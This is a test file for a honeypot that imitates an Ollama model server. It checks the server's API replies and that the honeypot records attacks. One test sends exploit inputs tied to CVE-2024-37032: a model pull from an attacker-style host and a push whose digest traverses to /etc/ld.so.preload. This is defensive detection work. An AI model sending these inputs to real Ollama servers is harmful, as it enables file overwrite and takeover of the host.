import { execFile } from 'node:child_process';
import { promisify } from 'node:util';
import { describe, expect, it } from 'vitest';
import { needTools } from '../../../test/support/need.ts';
import { serveDecoy } from '../../../test/support/serve-decoy.ts';
import { holdsForAnyBytes, octetsOf, personaWith, talk } from '../../../test/support/talk.ts';
import type { Persona } from '../../core/persona.ts';
import { parseJson, textAt } from '../../wire/json-value.ts';
import { ollama } from './ollama.ts';

const run = promisify(execFile);
const curl = async (...words: string[]): Promise<string> =>
  (await run('curl', ['-s', '-m', '20', ...words])).stdout;
const server = (): Persona =>
  personaWith({
    ollama: { product: 'Ollama', version: '0.1.32', details: { models: 'llama3.1:8b,mistral:7b' } },
  });
const post = (path: string, body: unknown): string => {
  const text = JSON.stringify(body);
  return `POST ${path} HTTP/1.1\r\nHost: a\r\nContent-Length: ${text.length}\r\n\r\n${text}`;
};

describe('the ollama decoy', () => {
  needTools(['curl'])('streams an answer to curl, by its own API and by OpenAI’s', async () => {
    await using served = await serveDecoy(ollama, server());
    const base = `http://127.0.0.1:${served.port}`;
    expect(await curl(base)).toBe('Ollama is running');
    expect(await curl(`${base}/api/version`)).toBe('{"version":"0.1.32"}');
    expect(await curl(`${base}/api/tags`)).toContain('"name":"llama3.1:8b"');
    const prompt = { model: 'llama3.1:8b', prompt: 'Explain photosynthesis in plants' };
    const lines = (await curl(`${base}/api/generate`, '-d', JSON.stringify(prompt)))
      .trim()
      .split('\n')
      .map((line) => parseJson(line));
    expect(lines.map((line) => textAt(line, 'response')).join('')).toMatch(/photosynthesis/i);
    expect(textAt(lines.at(-1), 'done_reason')).toBe('stop');
    const chat = {
      model: 'mistral:7b',
      stream: true,
      messages: [{ role: 'user', content: 'What is 17*3?' }],
    };
    const events = await curl(`${base}/v1/chat/completions`, '-d', JSON.stringify(chat));
    const said = events
      .split('\n\n')
      .map((event) => textAt(parseJson(event.replace('data: ', '')), 'choices', 0, 'delta', 'content'));
    expect(said.join('')).toBe('17 * 3 = 51');
    expect(events.endsWith('data: [DONE]\n\n')).toBe(true);
    const used = served.facts.filter((fact) => fact.kind === 'exploit' && fact.name === 'model-hijacking');
    expect(used).toMatchObject([
      { technique: 'T1496', detail: '/api/generate llama3.1:8b: Explain photosynthesis in plants' },
      {},
    ]);
    expect(served.errors).toEqual([]);
  });

  it('records what is to be pulled, and knows the digest that leaves its folder', () => {
    const { facts, text } = talk(ollama, server(), [
      octetsOf(
        post('/api/pull', { name: 'llama9' }) +
          post('/api/pull', { name: '203.0.113.9:8080/evil/model', insecure: true }) +
          post('/api/push', { name: 'x', digest: '../../../../../etc/ld.so.preload' }),
      ),
    ]);
    expect(text).toContain(
      '{"error":"pull model manifest: Get \\"https://registry.ollama.ai/v2/\\": dial tcp: i/o timeout"}\n',
    );
    expect(
      facts.flatMap((fact) =>
        fact.kind === 'exploit' ? [`${fact.class} ${fact.name} ${fact.cves.join()}`] : [],
      ),
    ).toEqual([
      'lfi ollama-pull-from-own-registry CVE-2024-37032',
      'lfi ollama-digest-traversal CVE-2024-37032',
    ]);
    expect(facts.flatMap((fact) => (fact.kind === 'command' ? (fact.urls ?? []) : []))).toEqual([
      'http://203.0.113.9:8080/evil/model',
    ]);
  });

  it('says in its server’s words that it has no such model', () => {
    const { text } = talk(ollama, server(), [
      octetsOf(
        post('/api/chat', { model: 'gpt-4', messages: [] }) +
          post('/v1/chat/completions', { model: 'gpt-4' }) +
          post('/api/show', { name: 'gpt-4' }),
      ),
    ]);
    expect(text).toContain('{"error":"model \\"gpt-4\\" not found, try pulling it first"}');
    expect(text).toContain(
      '{"error":{"message":"model \\"gpt-4\\" not found, try pulling it first","type":"api_error","param":null,"code":null}}',
    );
    expect(text).toContain('{"error":"model \'gpt-4\' not found"}');
  });

  it('gives the same for any split of any bytes', () => {
    holdsForAnyBytes(ollama, server, [
      octetsOf('GET /api/tags HTTP/1.1\r\nHost: a\r\n\r\n'),
      octetsOf(post('/api/generate', { model: 'mistral:7b', prompt: 'hello there friend of mine' })),
      octetsOf(
        post('/v1/chat/completions', {
          model: 'mistral:7b',
          stream: true,
          messages: [{ role: 'user', content: 'hi' }],
        }),
      ),
      octetsOf(post('/api/embed', { model: 'mistral:7b', input: ['a', 'b'] })),
      octetsOf(post('/api/pull', { name: 'mistral:7b' })),
    ]);
  });
});
